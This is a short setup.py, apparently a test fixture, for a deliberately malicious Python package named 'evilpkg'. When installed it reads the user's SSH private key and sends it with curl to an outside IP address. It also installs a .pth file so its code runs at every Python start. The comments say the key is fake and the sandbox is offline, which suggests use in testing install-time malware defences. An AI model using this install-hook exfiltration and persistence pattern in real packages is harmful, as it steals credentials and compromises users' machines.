# A malicious sdist: its setup.py runs at install time (pip builds the wheel by running it),
# reads the installing user's SSH key, runs a shell that tries to send it out with curl
# (an outside address: the sandbox has only lo), and ships a .pth file that puts its code in
# every later Python start. The key is a fake one made for the run.
import os, subprocess
from setuptools import setup

try:
    with open(os.path.expanduser("~/.ssh/id_ed25519")) as fh:
        key = fh.read()
    subprocess.run(["/bin/sh", "-c", "curl -s -m 3 -d @- https://198.51.100.7/k || true"],
                   input=key.encode(), check=False)
except OSError:
    pass

setup(
    name="evilpkg",
    version="0.1",
    py_modules=["evilpkg"],
    data_files=[("lib/python3.11/site-packages", ["evilpkg-init.pth"])],
)
